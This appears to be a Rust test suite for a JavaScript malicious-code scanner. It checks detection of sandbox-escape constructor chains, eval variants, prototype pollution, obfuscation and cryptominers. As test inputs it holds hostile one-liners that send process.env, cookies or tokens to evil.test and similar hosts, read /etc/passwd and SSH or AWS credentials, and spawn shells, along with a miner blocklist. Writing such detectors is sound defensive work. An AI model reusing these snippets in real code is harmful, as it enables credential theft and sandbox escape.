//! Every rule fires on several spellings of its attack and stays quiet on the honest code of
//! the precision list.
// A test fails by panicking: unwrap/expect are its assertions.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::scan::{finding, has, rule_ids};
use sandbench::engine::scan::{scan, scan_with, Finding, ScanContext, ScanOptions, Verdict};

#[track_caller]
fn fires(rule: &str, srcs: &[&str]) {
    for src in srcs {
        let got = rule_ids(&scan(src));
        assert!(got.contains(&rule), "`{rule}` missing for {src:?}: {got:?}");
    }
}

/// The `rule` finding of `src`, checked to show `value` as the folded spelling it found.
#[track_caller]
fn folded_finding(src: &str, rule: &str, value: &str) -> Finding {
    let f = finding(&scan(src), rule).clone();
    assert_eq!(f.folded.as_deref(), Some(value), "{src}");
    f
}

/// The report of `src` scanned as part of a package.
fn scan_package(src: &str) -> sandbench::engine::scan::Report {
    scan_with(src, &ScanOptions::in_context(ScanContext::Package))
}

/// `rule` fires for none of `srcs`.
#[track_caller]
fn misses(rule: &str, srcs: &[impl AsRef<str>]) {
    for src in srcs {
        let src = src.as_ref();
        let got = rule_ids(&scan(src));
        assert!(!got.contains(&rule), "`{rule}` for {src:?}: {got:?}");
    }
}

#[track_caller]
fn quiet(srcs: &[&str]) {
    for src in srcs {
        let r = scan(src);
        assert!(
            r.verdict == Verdict::Allow,
            "expected allow for {src:?}, got {} {:?}",
            r.score,
            rule_ids(&r)
        );
    }
}

#[test]
fn constructor_chain_in_many_spellings() {
    fires(
        "constructor-chain",
        &[
            "this.constructor.constructor('return process')()",
            "({}).constructor.constructor('return this')()",
            "[]['constructor']['constructor']('x')()",
            "const k = 'con' + 'structor'; x[k][k]('return 1')();",
            "x[`con${'struc'}tor`][\"\\x63onstructor\"]('1')",
            "x[String.fromCharCode(99,111,110,115,116,114,117,99,116,111,114)].constructor",
            "x[atob('Y29uc3RydWN0b3I=')][atob('Y29uc3RydWN0b3I=')]",
            "x[Buffer.from('636f6e7374727563746f72','hex').toString()].constructor",
            "x[['con','struc','tor'].join('')].constructor",
            "x['rotcurtsnoc'.split('').reverse().join('')].constructor",
            "Reflect.get(Reflect.get(x, 'constructor'), 'constructor')",
            "Object.getOwnPropertyDescriptor(x.constructor, 'constructor').value",
            "(async function(){}).constructor('await 1')",
            "(function*(){}).constructor('yield 1')",
            "Object.getPrototypeOf(async () => {}).constructor",
            "(() => {}).constructor('return process')()",
            "[].filter.constructor('return this')()",
        ],
    );
    assert_eq!(
        scan("this.constructor.constructor('x')()").verdict,
        Verdict::Block
    );
}

#[test]
fn folded_findings_show_the_folded_value() {
    let f = folded_finding(
        "const k = 'con' + 'structor';\nx[k][k]('1')();",
        "constructor-chain",
        "constructor",
    );
    assert!(
        f.message.contains("resolves to `constructor`"),
        "{}",
        f.message
    );
    assert_eq!(f.line, 2);
}

#[test]
fn function_constructor_and_idiom() {
    fires(
        "function-constructor",
        &[
            "new Function('a', 'return a')",
            "Function(code)()",
            "globalThis['Func' + 'tion'](code)",
            "const F = Function; F(code)",
            "Function.apply(null, ['return 1'])",
            "Reflect.construct(Function, ['return 1'])",
        ],
    );
    let r = scan("var g = Function('return this')();");
    assert_eq!(r.findings[0].rule, "function-global-idiom");
    assert_eq!(r.verdict, Verdict::Allow);
    assert!(r.findings[0].message.contains("global"));
}

#[test]
fn eval_direct_and_indirect() {
    fires("eval-direct", &["eval(userCode)", "eval('1+' + x)"]);
    fires(
        "eval-indirect",
        &[
            "(0, eval)(code)",
            "globalThis['ev' + 'al'](code)",
            "window.eval(code)",
            "const e = eval; e(code)",
            "var t = [eval][0]; t(code)",
            "self[atob('ZXZhbA==')](code)",
        ],
    );
    assert!(scan("(0, eval)(code)").score >= 80);
}

#[test]
fn timers_with_strings() {
    fires(
        "timer-string",
        &[
            "setTimeout('alert(1)', 10)",
            "setInterval(`tick(${n})`, 5)",
            "setTimeout('a' + b, 1)",
        ],
    );
    quiet(&["setTimeout(() => tick(), 10)", "setInterval(tick, 5)"]);
}

#[test]
fn encoded_payloads_executed() {
    fires(
        "encoded-exec",
        &[
            "eval(atob('YWxlcnQoMSk='))",
            "new Function(Buffer.from(payload, 'base64').toString())()",
            "eval(String.fromCharCode(97,108,101,114,116))",
            "setTimeout(unescape('%61lert(1)'), 1)",
        ],
    );
}

#[test]
fn process_access() {
    fires(
        "process-binding",
        &[
            "process.binding('fs')",
            "process['bind' + 'ing']('spawn_sync')",
            "process.dlopen(m, p)",
        ],
    );
    fires(
        "process-mainmodule",
        &["process.mainModule.require('child_process')"],
    );
    fires(
        "process-env",
        &[
            "JSON.stringify(process.env)",
            "Object.keys(process.env)",
            "const all = {...process.env}",
            "for (const k in process.env) send(k)",
        ],
    );
    fires("process-exit", &["process.exit(1)", "process.kill(pid)"]);
    // In a plugin, reaching the host's environment is itself process access; in a package
    // audit, reading NODE_ENV is what every library does.
    fires(
        "process-env-read",
        &["if (process.env.NODE_ENV !== 'production') warn()"],
    );
    let r = scan_package("if (process.env.NODE_ENV !== 'production') warn()");
    assert_eq!(r.verdict, Verdict::Allow, "{:?}", rule_ids(&r));
}

#[test]
fn modules() {
    fires(
        "child-process",
        &[
            "require('child_process').exec('ls')",
            "const cp = require('node:child_process'); cp.execSync('id')",
            "const { spawn } = require('child_process'); spawn('sh')",
            "import { exec } from 'child_process'; exec('x')",
            "require('child_' + 'process')",
            "import('child_process')",
        ],
    );
    fires(
        "child-process-detached",
        &["require('child_process').spawn('miner', [], { detached: true, stdio: 'ignore' })"],
    );
    fires(
        "require-dangerous",
        &["require('vm').runInThisContext(c)", "import v8 from 'v8'"],
    );
    fires("dynamic-import", &["import(name)", "import('./x' + y)"]);
    fires(
        "module-load",
        &[
            "module.constructor._load('fs')",
            "const M = require('module'); M._load('child_process')",
        ],
    );
    fires(
        "require-cache",
        &["delete require.cache[k]", "require.cache[p].exports = evil"],
    );
    fires(
        "fs-access",
        &[
            "const fs = require('fs')",
            "import { readFileSync } from 'node:fs'",
        ],
    );
}

#[test]
fn prototype_pollution() {
    fires(
        "proto-pollution",
        &[
            "obj.__proto__.isAdmin = true",
            "obj['__pro' + 'to__']['polluted'] = 1",
            "x.constructor.prototype.polluted = 1",
            "_.merge({}, JSON.parse('{\"__proto__\": {\"admin\": true}}'))",
            "_.set(o, '__proto__.admin', true)",
        ],
    );
    fires(
        "builtin-prototype-write",
        &[
            "Object.prototype.toString = evil",
            "Array.prototype.push = function () {}",
            "Object.defineProperty(Object.prototype, 'x', { value: 1 })",
            "Object.setPrototypeOf(Array.prototype, evil)",
        ],
    );
    quiet(&[
        "const d = Object.create(null); d[key] = value;",
        "const data = JSON.parse('{\"__proto__\": 1}'); console.log(data.a);",
        "class Point { constructor(x) { this.x = x; } }",
        "Object.defineProperty(this, 'name', { value: 'x' })",
        "const o = {}; Object.defineProperty(o, 'k', { get() { return 1; } });",
        "function Map() {} Map.prototype.get = function (k) { return this[k]; };",
    ]);
}

#[test]
fn filesystem_and_paths() {
    fires(
        "sensitive-path",
        &[
            "fs.readFileSync('/etc/passwd')",
            "read(os.homedir() + '/.ssh/id_rsa')",
            "const p = `${home}/.aws/credentials`",
            "open('.npmrc')",
        ],
    );
}

#[test]
fn network_and_exfiltration() {
    fires(
        "network-fetch",
        &[
            "fetch('https://x.test')",
            "new XMLHttpRequest()",
            "new WebSocket(u)",
            "navigator.sendBeacon(u, d)",
        ],
    );
    fires(
        "network-module",
        &["require('net').connect(1)", "import dns from 'dns'"],
    );
    fires(
        "exfiltration",
        &[
            "fetch('https://evil.test', { method: 'POST', body: JSON.stringify(process.env) })",
            "const data = JSON.stringify(process.env); navigator.sendBeacon(u, data)",
            "const xhr = new XMLHttpRequest(); xhr.open('POST', u); xhr.send(document.cookie)",
            "const fs = require('fs'); const req = require('https').request(u); req.write(fs.readFileSync(p))",
            "const ws = new WebSocket(u); ws.send(JSON.stringify({ pw: document.querySelector('#pw').value }))",
            "const https = require('https'); const req = https.request(o); const body = { t: localStorage.getItem('token') }; req.end(JSON.stringify(body))",
        ],
    );
    // Benign twins: a server writing a file to its own response, a client that reads a flag
    // from the environment in one function and posts unrelated data in another, a callback
    // that reads a file inside a request handler.
    misses(
        "exfiltration",
        &[
            "const fs = require('fs'); require('http').createServer((q, res) => { res.end(fs.readFileSync('index.html')) })",
            "function off() { return process.env.NO_TRACK } async function post(d) { const ws = new WebSocket(u); ws.send(JSON.stringify(d)) }",
            "res.write(fs.readFileSync(p))",
        ],
    );
}

#[test]
fn cryptominers() {
    // A miner's identity together with its behaviour.
    fires(
        "cryptominer",
        &[
            "const pool = 'stratum+tcp://pool.example:4444'; const s = net.connect(3333); s.write(JSON.stringify({ method: 'mining.subscribe' })); let nonce = 0;",
            "var miner = new CoinHive.Anonymous('key', { throttle: 0.3, threads: navigator.hardwareConcurrency }); miner.start();",
            "WebAssembly.instantiate(buf).then(m => { for (let nonce = 0; ; nonce++) if (m.exports.cryptonight_hash(nonce) < target) post(nonce) })",
            // decoded, the configuration is stratum
            "const c = JSON.parse(atob('eyJtIjoibWluaW5nLnN1Ym1pdCJ9')); const ws = new WebSocket(u); ws.send({ method: c.m, nonce });",
        ],
    );
    // Names alone (a process table, a blocklist) are a low signal, never a block.
    for src in [
        "const KNOWN = { xmrig: 'XMRig CPU miner', coinhive: 'Coinhive (defunct)' };",
        "const blocked = ['stratum+tcp://', 'cryptonight'];",
    ] {
        let r = scan(src);
        assert_eq!(rule_ids(&r), vec!["miner-name"], "{src}");
        assert_eq!(r.verdict, Verdict::Allow, "{src}");
    }
}

#[test]
fn obfuscation_families() {
    let jsfuck = "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]]()";
    fires("obfuscation-jsfuck", &[jsfuck]);
    fires(
        "obfuscation-jjencode",
        &[
            "$=~[];$={___:++$,$$$$:(![]+\"\")[$],__$:++$};",
            "ﾟωﾟﾉ= /｀ｍ´）ﾉ ~┻━┻   //*´∇｀*/ ['_'];",
        ],
    );
    fires(
        "obfuscation-packer",
        &["eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0',1,1,''.split('|'),0,{}))"],
    );
    let hex: String = (0..10)
        .map(|i| format!("var _0x{:04x} = {i};\n", 0x1a2b + i))
        .collect();
    fires("obfuscation-hex-names", &[hex.as_str()]);
    fires(
        "obfuscation-string-array",
        &["var _0x1 = ['a','b']; (function (a, n) { while (!![]) { try { if (n) break; a['push'](a['shift']()); } catch (e) { a['push'](a['shift']()); } } })(_0x1, 1);"],
    );
    fires(
        "trojan-source",
        &["if (isAdmin) { /* \u{202e} } \u{2066}if (isAdmin)\u{2069} \u{2066} begin admins only */ run(); }"],
    );
    fires(
        "invisible-char",
        &["const a\u{200d} = 1; const \u{3164} = 2;"],
    );
    fires("homoglyph-identifier", &["const p\u{0430}ssword = 1;"]);
    let hidden = format!("ok();{}evil();", " ".repeat(200));
    fires("hidden-whitespace", &[hidden.as_str()]);
    fires(
        "encoded-blob",
        &[&format!("const b = atob('{}');", "QUFB".repeat(60))],
    );
}

#[test]
fn precision_list_stays_quiet() {
    quiet(&[
        "function processData(d) { return d; } function requireAuth() {} const evaluate = (x) => x; processData(1); requireAuth(); evaluate(2);",
        "// never call eval() or require('child_process') here\nconst s = 'eval is evil; child_process.exec is worse';",
        "class A { constructor() { this.kind = this.constructor.name; } }",
        "const cfg = JSON.parse(text); if (cfg['__proto__'] !== undefined) { reject(); }",
        "const dict = Object.create(null); dict.a = 1;",
        "const t = { ar: 'مرحبا\u{200f} عالم', fa: 'می\u{200c}خواهم' };",
        "!function(e,t){\"object\"==typeof exports?module.exports=t():e.x=t()}(this,function(){var n=function(a,b){return a+b};return n});",
        "var g = Function('return this')();",
        "const x = require('./util'); module.exports = { x };",
        "fetchData(); const f = obj.fetch; class Evaluator { evaluate() {} }",
    ]);
}

#[test]
fn code_that_does_not_parse_still_gets_token_rules() {
    let r = scan("function (( { eval(payload) ; require('child_process')");
    assert!(r.parse_error.is_some());
    let got = rule_ids(&r);
    assert!(got.contains(&"eval-direct"), "{got:?}");
    assert!(got.contains(&"child-process"), "{got:?}");
    assert!(r
        .findings
        .iter()
        .any(|f| f.message.contains("did not parse")));
}

#[test]
fn positions_are_one_based_characters_with_byte_offsets() {
    let src = "const é = 1;\n  eval(x)";
    let r = scan(src);
    let f = finding(&r, "eval-direct");
    assert_eq!((f.line, f.column, f.end_line, f.end_column), (2, 3, 2, 10));
    assert_eq!(&src[f.start..f.end], "eval(x)");
    assert_eq!(f.snippet, "eval(x)");
}

#[test]
fn snippets_are_escaped_and_bounded() {
    let src = format!("eval('\u{1b}[2J{}')", "a".repeat(500));
    let r = scan(&src);
    let f = &r.findings[0];
    assert!(!f.snippet.contains('\u{1b}'));
    assert!(f.snippet.chars().count() <= 130, "{}", f.snippet.len());
}

#[test]
fn metrics_describe_the_code() {
    let r = scan("function f(a) {\n  if (a) { for (;;) { if (a && b) return 1; } }\n}\n");
    assert_eq!(r.metrics.lines, 3);
    assert!(r.metrics.max_nesting >= 3, "{:?}", r.metrics);
    assert!(r.metrics.complexity >= 4, "{:?}", r.metrics);
    assert!(r.metrics.identifier_entropy > 0.0);
    assert!(!r.metrics.minified);
    let min = format!("var a=1;{}", "a=a+1;".repeat(200));
    assert!(scan(&min).metrics.minified);
}

#[test]
fn deep_nesting_never_overflows() {
    let deep = format!("{}1{}", "(".repeat(5000), ")".repeat(5000));
    let r = scan(&deep);
    assert!(r.parse_error.is_none(), "{:?}", r.parse_error);
    let deeper = format!("{}1{}", "[".repeat(50_000), "]".repeat(50_000));
    assert!(scan(&deeper).parse_error.is_none());
    let absurd = format!("x = {}1;", "-".repeat(600_000));
    let r = scan(&absurd);
    assert!(has(&r, "deep-nesting"), "{:?}", rule_ids(&r));
    assert!(r.parse_error.is_some());
}

#[test]
fn locale_regexes_and_strings_with_invisible_marks_stay_quiet() {
    quiet(&["const meridiemParse = /ئێواره\u{200c}|به\u{200c}یانی/; const s = 'می\u{200c}خواهم';"]);
    fires("invisible-char", &["const s = 1;\u{200b} run();"]);
}

#[test]
fn optional_chains_aliases_and_reflective_calls() {
    fires("eval-direct", &["eval?.(code)"]);
    fires(
        "constructor-chain",
        &[
            "x?.constructor.constructor('return this')()",
            "(x?.constructor).constructor",
        ],
    );
    fires("process-binding", &["process?.binding('fs')"]);
    fires(
        "eval-indirect",
        &["eval.call(null, code)", "Reflect.apply(eval, null, [code])"],
    );
    fires(
        "function-constructor",
        &["Function.prototype.constructor('return 1')"],
    );
    fires(
        "dynamic-import",
        &["import(u)", "import('https://cdn.example/x.js')"],
    );
    // A data: URL import is code made from text: scanned as code, reported as code injection.
    fires(
        "dom-code-injection",
        &["import('data:text/javascript,alert(1)')"],
    );
}

#[test]
fn escaped_identifiers_and_loader_tampering() {
    let f = folded_finding("\\u0065val(code)", "eval-direct", "eval");
    assert!(
        f.score > 75,
        "hidden spelling adds to the score: {}",
        f.score
    );
    fires(
        "require-cache",
        &[
            "module.constructor.prototype.require = function () {}",
            "require('module')._load = hook",
        ],
    );
}

#[test]
fn assignment_aliases_and_destructured_constructors() {
    fires(
        "constructor-chain",
        &[
            "var k; k = 'con' + 'structor'; x[k][k]('return 1')();",
            "const { constructor: F } = function () {}; F('return process')();",
        ],
    );
    // A name assigned twice is unknown: no guess.
    let r = scan("var k; k = 'constructor'; k = 'name'; x[k][k];");
    assert!(!has(&r, "constructor-chain"), "{:?}", rule_ids(&r));
}

#[test]
fn code_inside_strings_is_scanned_too() {
    let r = scan("eval(\"require('child_' + 'process').exec('id')\")");
    let f = finding(&r, "child-process");
    assert!(f.message.contains("in evaluated code"), "{}", f.message);
    assert_eq!(r.verdict, Verdict::Block);
    fires(
        "constructor-chain",
        &[
            "setTimeout('this.constructor.constructor(\"return process\")()', 1)",
            "eval(atob('dGhpcy5jb25zdHJ1Y3Rvci5jb25zdHJ1Y3Rvcg=='))",
        ],
    );
}

#[test]
fn long_flat_chains_do_not_overflow_the_stack() {
    let concat = format!("setTimeout({}'x', 1);", "'a' + ".repeat(20_000));
    let r = scan(&concat);
    assert!(has(&r, "timer-string"), "{:?}", rule_ids(&r));
    let members = format!("x{};", ".a".repeat(20_000));
    scan(&members);
    let calls = format!("f{};", "()".repeat(20_000));
    scan(&calls);
    let ternary = format!("{}1{};", "a ? b : ".repeat(5_000), "");
    scan(&ternary);
}

#[test]
fn user_written_decoder_functions_are_folded() {
    // The event-stream payload style: a hex-decoding helper hides every name.
    let src = "var r = require, t = process;\n\
               function e(s) { return Buffer.from(s, 'hex').toString(); }\n\
               t[e('62696e64696e67')]('fs');\n\
               r(e('6368696c645f70726f63657373')).exec('id');";
    let got = rule_ids(&scan(src));
    assert!(got.contains(&"process-binding"), "{got:?}");
    assert!(got.contains(&"child-process"), "{got:?}");
    fires(
        "eval-indirect",
        &["const d = (s) => s.split('').reverse().join(''); globalThis[d('lave')](x);"],
    );
    fires(
        "encoded-exec",
        &["function dec(x) { return atob(x); } eval(dec(payload));"],
    );
}

#[test]
fn code_text_handed_to_a_function_of_unseen_origin() {
    // One hop from a host-made function (a promise resolver, an inspect hook's argument),
    // a descriptor's value, a walk over keys: each is the Function constructor.
    fires(
        "constructor-chain",
        &[
            "const thenable = { then(resolve) { const F = resolve.constructor; resolve(F('return process')()) } }",
            "const o = { [k](d, options) { const H = options.stylize.constructor; H('return process')() } }",
            "class S { [k](a, b, inspect) { const { constructor: H } = inspect; H('return this')() } }",
            "const all = Object.getOwnPropertyDescriptors(p); const { value: C } = all.constructor; const run = C('return process.mainModule')",
            "let c = []; ['constructor', 'constructor'].forEach((n) => { c = c[n] }); const run = c; run('return process')()",
            "const Fn = walk(Math.max, path); const g = Fn('return this')()",
            "x.constructor('return global')",
        ],
    );
    // Twins: functions the code wrote, a parameter, a field read through `this`, text that is
    // no code for the host.
    misses(
        "constructor-chain",
        &[
            "function run(code) { return code } run('return process')",
            "const t = (s) => s.trim(); t('return this')",
            "function f(cb) { cb('return this') }",
            "const c = cfg.compile; c('return this.user.name')",
            "const T = this.constructor; const copy = T('return value')",
            "const F = Function; F('return this')()",
        ],
    );
}

#[test]
fn host_module_graph() {
    fires(
        "module-graph",
        &[
            "const secrets = require.main.require('./config/secrets')",
            "const main = require.main; main.require('./lib/db')",
            "let m = module; while (m.parent) { m = m.parent } m.children.map((c) => c.exports)",
            "const kids = module.children",
        ],
    );
    // Twins: is this file the entry point? Every CLI asks.
    quiet(&[
        "if (require.main === module) main()",
        "if (!module.parent) start()",
        "module.exports = { main: cfg.main, parent: node.parent }",
    ]);
}

#[test]
fn page_elements_that_send_data() {
    fires(
        "exfiltration",
        &[
            "const i = new Image(1, 1); i.src = 'https://c.example/p.gif?c=' + encodeURIComponent(document.cookie)",
            "const img = document.createElement('img'); img.src = u + localStorage.getItem('token')",
            "const f = document.createElement('form'); f.action = u; const x = document.createElement('input'); x.value = document.cookie; f.appendChild(x); f.submit()",
            "const t = globalThis.fetch; t.call(globalThis, u, { method: 'POST', body: document.cookie })",
        ],
    );
    fires(
        "network-fetch",
        &["const f = document.createElement('form'); f.action = u; f.submit()"],
    );
    // Twins: an image of the page's own, a form of plain values, a local `Image` class.
    misses(
        "exfiltration",
        &[
            "const i = new Image(); i.src = '/logo.png'",
            "const f = document.createElement('form'); const x = document.createElement('input'); x.value = 'hello'; f.appendChild(x); f.submit()",
            "class Image { constructor() { this.src = '' } } const i = new Image(); i.src = document.cookie",
        ],
    );
}

#[test]
fn other_runtimes_process_apis() {
    fires(
        "child-process",
        &[
            "Bun.spawn(['sh', '-c', cmd])",
            "const rt = globalThis.Bun; rt.spawnSync(['ls'])",
            "const D = globalThis.Deno; new D.Command('sh', { args: ['-c', c] })",
            "Deno.run({ cmd: ['sh'] })",
        ],
    );
    // Twin: objects of the code's own with those names.
    quiet(&[
        "const Bun = { spawn() {} }; Bun.spawn(['ls'])",
        "function f(Deno) { return new Deno.Command('x') }",
    ]);
}

#[test]
fn require_passed_into_a_function() {
    // `require` handed to an IIFE (or picked by a typeof test) and called with a computed name.
    for src in [
        "(function (r, n) { var id = n.split('').reverse().join(''); r(id) })(typeof require === 'function' ? require : null, 'snd')",
        "(function (load) { load(['child', 'process'].join('_')) })(require)",
        "const req = typeof require !== 'undefined' ? require : undefined; req('f' + 's')",
    ] {
        let r = scan(src);
        assert!(
            r.findings
                .iter()
                .any(|f| f.category == sandbench::engine::Category::ModuleLoading && f.score >= 70),
            "{src}: {:?}",
            rule_ids(&r)
        );
    }
    // Twin: a bundle's guard with literal names is plain use in a package audit.
    let r = scan_package(
        "const req = typeof require === 'function' ? require : null; const fs = req('fs');",
    );
    assert_eq!(r.verdict, Verdict::Allow, "{:?}", rule_ids(&r));
}

#[test]
fn path_writers_of_the_codes_own_fed_a_prototype_path() {
    let setter = "function putIn(o, path, v) { const ks = path.split('.'); let cur = o; \
                  while (ks.length > 1) { const k = ks.shift(); cur = cur[k] || (cur[k] = {}) } cur[ks[0]] = v }";
    let reducer = "function put(o, path, v) { const ps = path.split('.'); const last = ps.pop(); \
                   ps.reduce((a, p) => (a[p] = a[p] || {}), o)[last] = v }";
    let merge = "function merge(d, s) { for (const k in s) { if (typeof s[k] === 'object') merge(d[k], s[k]); else d[k] = s[k] } }";
    for src in [
        format!("{setter} putIn({{}}, '__proto__.admin', true)"),
        format!("{setter} putIn({{}}, 'constructor.prototype.x', 1)"),
        format!(
            "{reducer} const req = {{ p: 'constructor.prototype.debug' }}; put({{}}, req.p, 1)"
        ),
        format!("{merge} merge({{}}, JSON.parse('{{\"__proto__\": {{\"role\": 1}}}}'))"),
        format!("{setter} putIn({{}}, ['constructor', 'prototype', 'x'].join('.'), 1)"),
    ] {
        let got = rule_ids(&scan(&src));
        assert!(got.contains(&"proto-pollution"), "{src}: {got:?}");
    }
    // Twins: the same writers fed honest paths; a guarded writer fed a bad one; a flat
    // lookup table given `__proto__` as one of its names (no walk); a function's own text
    // mentioning prototypes passed to a mixin.
    misses(
        "proto-pollution",
        &[
            format!("{setter} putIn({{}}, 'db.host', 'localhost')"),
            format!("{merge} merge({{}}, JSON.parse('{{\"a\": {{\"b\": 1}}}}'))"),
            "function assignAt(o, path, v) { const ks = path.split('.'); let cur = o; for (const k of ks) { if (k === '__proto__' || k === 'constructor') return; cur = cur[k] = cur[k] || {} } } assignAt({}, '__proto__.x', 1)".to_string(),
            "function makeMap(str) { const map = Object.create(null); for (const k of str.split(',')) map[k] = true; return map } makeMap('__proto__,__v_isRef')".to_string(),
            "function mixin(obj) { for (const k of Object.keys(obj)) { let f = obj[k]; f = f[k]; _.prototype[k] = f } } mixin(function () { return X.constructor.prototype })".to_string(),
        ],
    );
}
